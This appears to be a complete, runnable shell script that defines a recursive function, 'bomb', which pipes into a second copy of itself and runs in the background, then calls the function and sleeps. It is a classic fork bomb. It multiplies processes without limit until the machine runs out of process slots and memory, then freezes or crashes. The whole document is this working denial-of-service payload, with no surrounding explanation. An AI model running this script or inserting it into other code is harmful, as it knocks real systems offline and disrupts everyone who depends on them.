# Every process makes two more.
bomb() { bomb | bomb & }
bomb
sleep 60
